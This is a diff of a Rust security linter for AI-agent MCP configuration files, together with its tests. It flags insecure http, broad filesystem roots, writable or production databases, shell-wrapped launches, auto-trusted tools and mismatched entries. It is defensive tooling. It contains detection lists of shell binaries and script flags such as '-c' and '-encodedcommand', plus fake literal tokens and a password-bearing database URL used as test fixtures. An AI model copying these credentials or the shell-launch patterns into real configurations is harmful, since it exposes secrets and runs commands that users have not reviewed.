+                    && r.strip_prefix("${input:")
+                        .and_then(|x| x.strip_suffix('}'))
+                        .is_some_and(|id| !inputs.iter().any(|i| i == id));
+                if !valid_in(&r, d) {
+                    emit.emit(
+                        &MCP_WRONG_INTERPOLATION,
+                        Some(text.span.clone()),
+                        format!(
+                            "`{r}` in MCP server `{}` is not expanded: {}",
+                            server.name,
+                            dialect_name(d)
+                        ),
+                    )
+                    .help = Some(format!(
+                        "write it as {}",
+                        d.env_reference(&reference_name(&r))
+                    ));
+                } else if undefined_input {
+                    emit.emit(&MCP_WRONG_INTERPOLATION, Some(text.span.clone()), format!("`{r}` in MCP server `{}` names no entry in `inputs`", server.name))
+                        .help = Some("declare it: \"inputs\": [{ \"type\": \"promptString\", \"id\": \"…\", \"password\": true }]".into());
+                }
+            }
+        }
+    }
+}
+
+fn reference_name(r: &str) -> String {
+    let inner = r
+        .trim_start_matches('$')
+        .trim_start_matches('{')
+        .trim_end_matches('}');
+    let inner = inner.rsplit(':').next().unwrap_or(inner);
+    inner.split(":-").next().unwrap_or(inner).to_string()
+}
+
+// ---- AG204 – AG209 ----
+
+fn check_insecure_http(ctx: &FileCtx, emit: &mut Emitter<'_>) {
+    for server in ctx.mcp_servers() {
+        if let Some(url) = server.url.as_ref().filter(|u| {
+            u.value.trim().to_ascii_lowercase().starts_with("http://") && !is_loopback(&u.value)
+        }) {
+            emit.emit(
+                &MCP_INSECURE_HTTP,
+                Some(url.span.clone()),
+                format!("MCP server `{}` is reached over plain http://", server.name),
+            )
+            .help = Some("use https://".into());
+        }
+    }
+}
+
+pub fn is_loopback(url: &str) -> bool {
+    let rest = url.split_once("://").map_or(url, |(_, r)| r);
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    let host = if host.starts_with('[') {
+        host.trim_start_matches('[').split(']').next().unwrap_or("")
+    } else {
+        host.split(':').next().unwrap_or("")
+    };
+    matches!(
+        host.to_ascii_lowercase().as_str(),
+        "localhost" | "::1" | "0.0.0.0"
+    ) || host.starts_with("127.")
+        || host.ends_with(".localhost")
+}
+
+fn check_filesystem_root(ctx: &FileCtx, emit: &mut Emitter<'_>) {
+    for server in ctx.mcp_servers() {
+        let argv = server.argv();
+        let Some(pkg) = argv.iter().position(|t| t.value.contains("filesystem")) else {
+            continue;
+        };
+        for arg in argv[pkg + 1..].iter().filter(|a| !a.value.starts_with('-')) {
+            if let Some(why) = broad_path(&arg.value) {
+                emit.emit(
+                    &MCP_FILESYSTEM_ROOT,
+                    Some(arg.span.clone()),
+                    format!(
+                        "filesystem MCP server `{}` exposes {why} (`{}`)",
+                        server.name, arg.value
+                    ),
+                )
+                .help = Some("root it at the project: \".\" or \"${workspaceFolder}\"".into());
+            }
+        }
+    }
+}
+
+const DATABASES: &[&str] = &[
+    "postgres",
+    "mysql",
+    "mariadb",
+    "mongo",
+    "redis",
+    "sqlserver",
+    "mssql",
+    "clickhouse",
+    "snowflake",
+    "bigquery",
+    "supabase",
+    "neon",
+    "planetscale",
+    "dbhub",
+    "cockroach",
+];
+const READ_ONLY: &[&str] = &[
+    "--read-only",
+    "--readonly",
+    "--read_only",
+    "readonly",
+    "read-only",
+    "read_only",
+    "--access-mode=restricted",
+    "--mode=readonly",
+    "default_transaction_read_only",
+];
+
+fn check_database(ctx: &FileCtx, emit: &mut Emitter<'_>) {
+    for server in ctx.mcp_servers() {
+        let argv = server.argv();
+        let launch: String = argv
+            .iter()
+            .map(|t| t.value.to_ascii_lowercase())
+            .collect::<Vec<_>>()
+            .join(" ");
+        let is_db = DATABASES
+            .iter()
+            .any(|db| launch.contains(db) || server.name.to_ascii_lowercase().contains(db));
+        if !is_db {
+            continue;
+        }
+        let env_text: String = server
+            .env
+            .iter()
+            .map(|kv| format!("{}={} ", kv.key, kv.value.value).to_ascii_lowercase())
+            .collect();
+        let read_only = READ_ONLY.iter().any(|r| launch.contains(r))
+            || server.env.iter().any(|kv| {
+                let k = kv.key.to_ascii_uppercase();
+                (k.contains("READ_ONLY") || k.contains("READONLY"))
+                    && matches!(
+                        kv.value.value.to_ascii_lowercase().as_str(),
+                        "1" | "true" | "yes"
+                    )
+            });
+        let prod = ["prod", "production", "live"].iter().any(|p| {
+            let hay = format!("{launch} {env_text}");
+            hay.split(|c: char| !c.is_ascii_alphanumeric())
+                .any(|w| w == *p)
+        });
+        let message = match (prod, read_only) {
+            (true, _) => format!(
+                "database MCP server `{}` points at what looks like production",
+                server.name
+            ),
+            (false, false) => format!(
+                "database MCP server `{}` has no read-only mode set",
+                server.name
+            ),
+            (false, true) => continue,
+        };
+        emit.emit(&MCP_DATABASE_WRITE, Some(server.name_span.clone()), message)
+            .help = Some(
+            "enable the server's read-only mode and use a development or replica database".into(),
+        );
+    }
+}
+
+fn check_shell_command(ctx: &FileCtx, emit: &mut Emitter<'_>) {
+    for server in ctx
+        .mcp_servers()
+        .iter()
+        .filter(|s| s.transport == Transport::Stdio || s.command.is_some())
+    {
+        let Some(command) = &server.command else {
+            continue;
+        };
+        let shell = matches!(
+            base(command.value.split_whitespace().next().unwrap_or(""))
+                .to_ascii_lowercase()
+                .as_str(),
+            "sh" | "bash" | "zsh" | "dash" | "ksh" | "cmd" | "powershell" | "pwsh"
+        );
+        let script_flag = server.args.iter().find(|a| {
+            matches!(
+                a.value.to_ascii_lowercase().as_str(),
+                "-c" | "/c" | "-command" | "/k" | "-lc" | "-ic" | "-encodedcommand"
+            )
+        });
+        let metachar = ["|", "&&", ";", "$(", "`"]
+            .iter()
+            .any(|m| command.value.contains(m));
+        if shell && script_flag.is_some() {
+            emit.emit(
+                &MCP_SHELL_COMMAND,
+                Some(command.span.clone()),
+                format!(
+                    "MCP server `{}` starts through `{} {}` with a script string",
+                    server.name,
+                    command.value,
+                    script_flag.map_or("", |a| a.value.as_str())
+                ),
+            )
+            .help = Some("launch the server binary directly with `command` and `args`".into());
+        } else if metachar {
+            emit.emit(
+                &MCP_SHELL_COMMAND,
+                Some(command.span.clone()),
+                format!(
+                    "MCP server `{}` has shell syntax in its command",
+                    server.name
+                ),
+            )
+            .help = Some("launch the server binary directly with `command` and `args`".into());
+        }
+    }
+}
+
+fn is_true(n: &Node) -> bool {
+    n.value == Value::Bool(true)
+}
+
+fn check_trusted(ctx: &FileCtx, emit: &mut Emitter<'_>) {
+    for server in ctx
+        .mcp_servers()
+        .iter()
+        .filter(|s| s.dialect == Dialect::Gemini)
+    {
+        if let Some(t) = server.entry.get("trust").filter(|n| is_true(n)) {
+            emit.emit(
+                &MCP_SERVER_TRUSTED,
+                Some(t.span.clone()),
+                format!(
+                    "MCP server `{}` has `trust: true`: its tool calls run without confirmation",
+                    server.name
+                ),
+            )
+            .help = Some("remove `trust`, and limit the server with `includeTools`".into());
+        }
+    }
+    if ctx.kind.is_claude_settings()
+        && let Some(n) = ctx
+            .tree()
+            .and_then(|t| t.get("enableAllProjectMcpServers"))
+            .filter(|n| is_true(n))
+    {
+        emit.emit(
+            &MCP_SERVER_TRUSTED,
+            Some(n.span.clone()),
+            "`enableAllProjectMcpServers: true` approves every server in .mcp.json without asking",
+        )
+        .help = Some(
+            "remove it; list reviewed servers in `enabledMcpjsonServers` in personal settings"
+                .into(),
+        );
+    }
+}
+
+fn check_auto_approved_tools(ctx: &FileCtx, emit: &mut Emitter<'_>) {
+    for server in ctx.mcp_servers() {
+        for key in ["autoApprove", "alwaysAllow"] {
+            if let Some(list) = server.entry.get(key).filter(|n| !n.as_array().is_empty()) {
+                let n = list.as_array().len();
+                emit.emit(
+                    &MCP_AUTO_APPROVED_TOOLS,
+                    Some(list.span.clone()),
+                    format!(
+                        "MCP server `{}` pre-approves {n} tool{} with `{key}`",
+                        server.name,
+                        crate::report::plural(n)
+                    ),
+                )
+                .help = Some("keep only read-only tools in the list".into());
+            }
+        }
+    }
+    if ctx.kind == crate::classify::FileKind::ClaudeSettings
+        && let Some(list) = ctx
+            .tree()
+            .and_then(|t| t.get("enabledMcpjsonServers"))
+            .filter(|n| !n.as_array().is_empty())
+    {
+        emit.emit(
+            &MCP_AUTO_APPROVED_TOOLS,
+            Some(list.span.clone()),
+            "`enabledMcpjsonServers` in the shared settings approves servers for everyone",
+        )
+        .help = Some("move it to .claude/settings.local.json".into());
+    }
+}
+
+fn check_conflicts(repo: &super::Repo, emit: &mut super::RepoEmitter<'_>) {
+    let mut first: std::collections::HashMap<&str, (&FileCtx, &McpServer)> =
+        std::collections::HashMap::new();
+    for file in &repo.files {
+        for server in file.mcp_servers() {
+            if server.name.is_empty() {
+                continue;
+            }
+            match first.get(server.name.as_str()) {
+                None => {
+                    first.insert(&server.name, (file, server));
+                }
+                Some((other_file, other))
+                    if other_file.path != file.path && other.signature() != server.signature() =>
+                {
+                    let what = match (unpinned_spec(other), unpinned_spec(server)) {
+                        (Some(a), Some(b)) if a != b => {
+                            format!("runs `{b}` here but `{a}` in {}", other_file.path)
+                        }
+                        _ if other.url.is_some() != server.url.is_some() => {
+                            format!("uses a different transport than in {}", other_file.path)
+                        }
+                        _ if other.url.is_some() => {
+                            format!("uses a different URL than in {}", other_file.path)
+                        }
+                        _ => format!("is launched differently than in {}", other_file.path),
+                    };
+                    emit.emit(
+                        file,
+                        &MCP_SERVER_CONFLICT,
+                        Some(server.name_span.clone()),
+                        format!("MCP server `{}` {what}", server.name),
+                    )
+                    .help = Some("make the entries identical, or rename one of the servers".into());
+                }
+                Some(_) => {}
+            }
+        }
+    }
+}
+
+/// The package a server runs (`pkg@1.2.3`), for messages that must not echo secrets.
+fn unpinned_spec(server: &McpServer) -> Option<String> {
+    let argv = server.argv();
+    let i = argv.iter().position(|t| {
+        matches!(
+            base(&t.value),
+            "npx" | "bunx" | "uvx" | "dlx" | "pipx" | "docker" | "run"
+        )
+    })?;
+    argv[i + 1..]
+        .iter()
+        .find(|t| !t.value.starts_with('-') && t.value != "run" && t.value != "dlx")
+        .map(|t| t.value.clone())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::rules::test_support::run;
 
+    fn codes(path: &str, text: &str) -> Vec<(&'static str, u32, u32)> {
+        run(path, text)
+            .iter()
+            .map(|d| (d.rule.code, d.line(), d.col()))
+            .collect()
+    }
+
     #[test]
-    fn unpinned_npx_across_files() {
+    fn unpinned_across_runners() {
         let mcp = "{\n  \"mcpServers\": {\n    \"fs\": {\n      \"command\": \"npx\",\n      \"args\": [\"-y\", \"@modelcontextprotocol/server-filesystem\", \".\"]\n    }\n  }\n}\n";
         let d = run(".mcp.json", mcp);
-        assert_eq!(d.len(), 1, "{d:?}");
-        let s = d[0].span.as_ref().unwrap();
-        assert_eq!((s.line, s.col), (5, 22));
+        assert_eq!((d[0].rule.code, d[0].line(), d[0].col()), ("AG201", 5, 22));
         assert!(d[0].message.contains("`-y`"));
-
-        let vscode = "{\"servers\": {\"p\": {\"type\": \"stdio\", \"command\": \"npx\", \"args\": [\"server-perplexity-ask@latest\"]}}}";
-        assert_eq!(run(".vscode/mcp.json", vscode).len(), 1);
-
-        let codex = "[mcp_servers.docs]\ncommand = \"npx\"\nargs = [\"-y\", \"mcp-docs@^1.2.0\"]\n";
-        let d = run(".codex/config.toml", codex);
-        assert_eq!(d.len(), 1);
-        assert_eq!(d[0].span.as_ref().unwrap().line, 3);
-
-        let pnpm = "{\"mcpServers\": {\"x\": {\"command\": \"pnpm\", \"args\": [\"dlx\", \"some-server\"]}}}";
-        assert_eq!(run(".cursor/mcp.json", pnpm).len(), 1);
+        for args in ["[\"server-x@latest\"]", "[\"dlx\", \"x\"]"] {
+            let cmd = if args.contains("dlx") { "pnpm" } else { "npx" };
+            let text = format!(
+                "{{\"mcpServers\": {{\"s\": {{\"command\": \"{cmd}\", \"args\": {args}}}}}}}"
+            );
+            assert_eq!(codes(".cursor/mcp.json", &text).len(), 1, "{args}");
+        }
+        let codex = "[mcp_servers.docs]\ncommand = \"uvx\"\nargs = [\"mcp-server-fetch\"]\n";
+        assert_eq!(codes(".codex/config.toml", codex), [("AG201", 3, 9)]);
+        let docker = r#"{"mcpServers": {"d": {"command": "docker", "args": ["run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/org/server"]}}}"#;
+        assert_eq!(
+            run(".mcp.json", docker)[0].message,
+            "MCP server `d` runs `ghcr.io/org/server` without an exact version"
+        );
     }
 
     #[test]
     fn pinned_and_local_servers_are_fine() {
-        for args in [
-            "[\"-y\", \"@modelcontextprotocol/server-filesystem@2025.8.21\", \".\"]",
-            "[\"-y\", \"server-x@1.2.3-beta.1\"]",
-            "[\"./local/server.js\"]",
-            "[\"-y\", \"github:org/repo#abc123\"]",
-            "[\"-y\", \"-p\", \"tool@1.0.0\", \"tool-cli\"]",
+        for (cmd, args) in [
+            (
+                "npx",
+                "[\"-y\", \"@modelcontextprotocol/server-filesystem@2025.8.21\", \".\"]",
+            ),
+            ("npx", "[\"./local/server.js\"]"),
+            ("npx", "[\"-y\", \"github:org/repo#abc123\"]"),
+            ("npx", "[\"-y\", \"-p\", \"tool@1.0.0\", \"tool-cli\"]"),
+            ("uvx", "[\"mcp-server-fetch==2025.1.17\"]"),
+            ("uvx", "[\"--from\", \"mcp-x==1.2\", \"mcp-x\"]"),
+            (
+                "docker",
+                "[\"run\", \"-i\", \"--rm\", \"ghcr.io/org/server:1.4.2\"]",
+            ),
+            ("docker", "[\"run\", \"-i\", \"mcp/fetch@sha256:abc\"]"),
+            ("node", "[\"server.js\"]"),
         ] {
             let text = format!(
-                "{{\"mcpServers\": {{\"s\": {{\"command\": \"npx\", \"args\": {args}}}}}}}"
+                "{{\"mcpServers\": {{\"s\": {{\"command\": \"{cmd}\", \"args\": {args}}}}}}}"
             );
-            assert!(run(".mcp.json", &text).is_empty(), "{args}");
+            assert!(
+                run(".mcp.json", &text).is_empty(),
+                "{cmd} {args}: {:?}",
+                run(".mcp.json", &text)
+            );
         }
-        let node = "{\"mcpServers\": {\"s\": {\"command\": \"node\", \"args\": [\"server.js\"]}}}";
-        assert!(run(".mcp.json", node).is_empty());
-        // An MCP-shaped object in a file no agent reads as MCP config.
-        let other = "{\"mcpServers\": {\"s\": {\"command\": \"npx\", \"args\": [\"x\"]}}}";
-        assert!(run("config/mcp.json", other).is_empty());
+        assert!(
+            run(
+                "config/mcp.json",
+                "{\"mcpServers\": {\"s\": {\"command\": \"npx\", \"args\": [\"x\"]}}}"
+            )
+            .is_empty()
+        );
     }
 
     #[test]
-    fn exact_versions() {
-        assert!(is_exact("a@1.2.3"));
-        assert!(is_exact("@s/a@10.0.0+build"));
-        for spec in [
-            "a", "@s/a", "a@latest", "a@1", "a@1.2", "a@^1.2.3", "a@1.2.x",
-        ] {
-            assert!(!is_exact(spec), "{spec}");
+    fn literal_credentials_are_found_and_redacted() {
+        let text = r#"{"mcpServers": {
+  "gh": {"command": "github-mcp@1.0.0", "env": {"GITHUB_TOKEN": "ghp_R4nd0mLooking1234567890abcdefABCDEF", "LOG": "debug"}},
+  "api": {"type": "http", "url": "https://api.example.net/mcp", "headers": {"Authorization": "Bearer sk-live-9f8e7d6c5b4a3f2e1d0c"}},
+  "db": {"command": "dbhub@1.0.0", "args": ["--dsn=postgres://admin:S3cr3tPassw0rd@db.internal:5432/app", "--api-key", "k8s7d6f5g4h3j2k1"]}
+}}"#;
+        let d = run(".mcp.json", text);
+        let creds: Vec<_> = d.iter().filter(|d| d.rule.code == "AG202").collect();
+        assert_eq!(creds.len(), 4, "{d:?}");
+        for c in &creds {
+            assert_eq!(c.redact.len(), 1);
+            for secret in [
+                "ghp_R4nd0m",
+                "sk-live-9f8e",
+                "S3cr3tPassw0rd",
+                "k8s7d6f5g4h3j2k1",
+            ] {
+                assert!(
+                    !c.message.contains(secret)
+                        && !c.help.as_deref().unwrap_or("").contains(secret)
+                );
+            }
         }
-        assert_eq!(strip_version("@s/a@latest"), "@s/a");
+        assert!(
+            creds[0]
+                .help
+                .as_deref()
+                .unwrap()
+                .contains("${GITHUB_TOKEN}")
+        );
+    }
+
+    #[test]
+    fn references_and_placeholders_are_fine() {
+        let claude = r#"{"mcpServers": {"gh": {"command": "x@1.0.0", "env": {"GITHUB_TOKEN": "${GITHUB_TOKEN}", "API_KEY": "<your-api-key>", "DB_PASSWORD": "${DB_PASSWORD:-devpass}"}, "headers": {"Authorization": "Bearer ${TOKEN}"}}}}"#;
+        assert!(
+            run(".mcp.json", claude).is_empty(),
+            "{:?}",
+            run(".mcp.json", claude)
+        );
+        let vscode = r#"{"inputs": [{"type": "promptString", "id": "key", "password": true}], "servers": {"p": {"type": "stdio", "command": "x@1.0.0", "env": {"API_KEY": "${input:key}", "T": "${env:T}"}}}}"#;
+        assert!(run(".vscode/mcp.json", vscode).is_empty());
+        let gemini = r#"{"mcpServers": {"g": {"httpUrl": "https://x.example.com", "headers": {"Authorization": "Bearer $GITHUB_PAT"}}}}"#;
+        assert!(run(".gemini/settings.json", gemini).is_empty());
+    }
+
+    #[test]
+    fn wrong_dialects() {
+        let claude = r#"{"mcpServers": {"gh": {"command": "x@1.0.0", "env": {"GITHUB_TOKEN": "${env:GITHUB_TOKEN}", "B": "$HOME_DIR"}}}}"#;
+        let d = run(".mcp.json", claude);
+        assert_eq!(
+            d.iter().filter(|d| d.rule.code == "AG203").count(),
+            2,
+            "{d:?}"
+        );
+        assert!(d[0].help.as_deref().unwrap().contains("${GITHUB_TOKEN}"));
+        let cursor =
+            r#"{"mcpServers": {"c": {"command": "x@1.0.0", "env": {"T": "${GH_TOKEN}"}}}}"#;
+        assert!(
+            run(".cursor/mcp.json", cursor)[0]
+                .help
+                .as_deref()
+                .unwrap()
+                .contains("${env:GH_TOKEN}")
+        );
+        let codex = "[mcp_servers.c]\ncommand = \"x\"\n[mcp_servers.c.env]\nT = \"${GH_TOKEN}\"\n";
+        assert_eq!(codes(".codex/config.toml", codex), [("AG203", 4, 5)]);
+        let vscode = r#"{"servers": {"p": {"type": "stdio", "command": "x", "env": {"K": "${input:missing}"}}}}"#;
+        assert!(
+            run(".vscode/mcp.json", vscode)[0]
+                .message
+                .contains("names no entry in `inputs`")
+        );
+    }
+
+    #[test]
+    fn transport_roots_databases_shells_trust() {
+        let text = r#"{"mcpServers": {
+  "plain": {"type": "http", "url": "http://mcp.example.com/mcp"},
+  "local": {"type": "http", "url": "http://localhost:3000/mcp"},
+  "fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "~", "."]},
+  "postgres": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-postgres@0.6.2", "${DB_URL}"]},
+  "ro": {"command": "dbhub@1.0.0", "args": ["--readonly"], "env": {"X": "postgres"}},
+  "sh": {"command": "sh", "args": ["-c", "x-server --port 1"]}
+}}"#;
+        let got: Vec<(&str, u32)> = run(".mcp.json", text)
+            .iter()
+            .map(|d| (d.rule.code, d.line()))
+            .collect();
+        assert_eq!(
+            got,
+            [("AG204", 2), ("AG205", 4), ("AG206", 5), ("AG207", 7)]
+        );
+        let gemini = r#"{"mcpServers": {"g": {"httpUrl": "https://x.example.com", "trust": true}, "h": {"httpUrl": "https://y.example.com", "trust": false}}}"#;
+        assert_eq!(codes(".gemini/settings.json", gemini), [("AG208", 1, 68)]);
+        assert_eq!(
+            codes(
+                ".claude/settings.json",
+                r#"{"enableAllProjectMcpServers": true}"#
+            )[0]
+            .0,
+            "AG208"
+        );
+        let cline = r#"{"mcpServers": {"c": {"command": "x@1.0.0", "autoApprove": ["read", "write"]}, "d": {"command": "y@1.0.0", "autoApprove": []}}}"#;
+        assert_eq!(codes(".roo/mcp.json", cline).len(), 1);
+    }
+
+    #[test]
+    fn conflicts_across_agents() {
+        use crate::classify::FileKind;
+        use crate::rules::{FileCtx, Repo, RepoEmitter, Selection};
+        let a = FileCtx::new(
+            ".mcp.json",
+            FileKind::McpJson,
+            r#"{"mcpServers": {"gh": {"command": "npx", "args": ["-y", "@m/server-github@2025.4.8"]}, "same": {"url": "https://a.example"}}}"#,
+        );
+        let b = FileCtx::new(
+            ".cursor/mcp.json",
+            FileKind::CursorMcp,
+            r#"{"mcpServers": {"gh": {"command": "npx", "args": ["-y", "@m/server-github@2025.1.1"]}, "same": {"url": "https://a.example"}}}"#,
+        );
+        let repo = Repo::new(vec![a, b], Default::default(), false);
+        let sel = Selection::all();
+        let mut emit = RepoEmitter::new(&sel);
+        check_conflicts(&repo, &mut emit);
+        assert_eq!(emit.out.len(), 1);
+        assert_eq!(emit.out[0].path, ".mcp.json");
+        assert!(emit.out[0].message.contains("`@m/server-github@2025.4.8` here but `@m/server-github@2025.1.1` in .cursor/mcp.json"), "{}", emit.out[0].message);
     }
 }
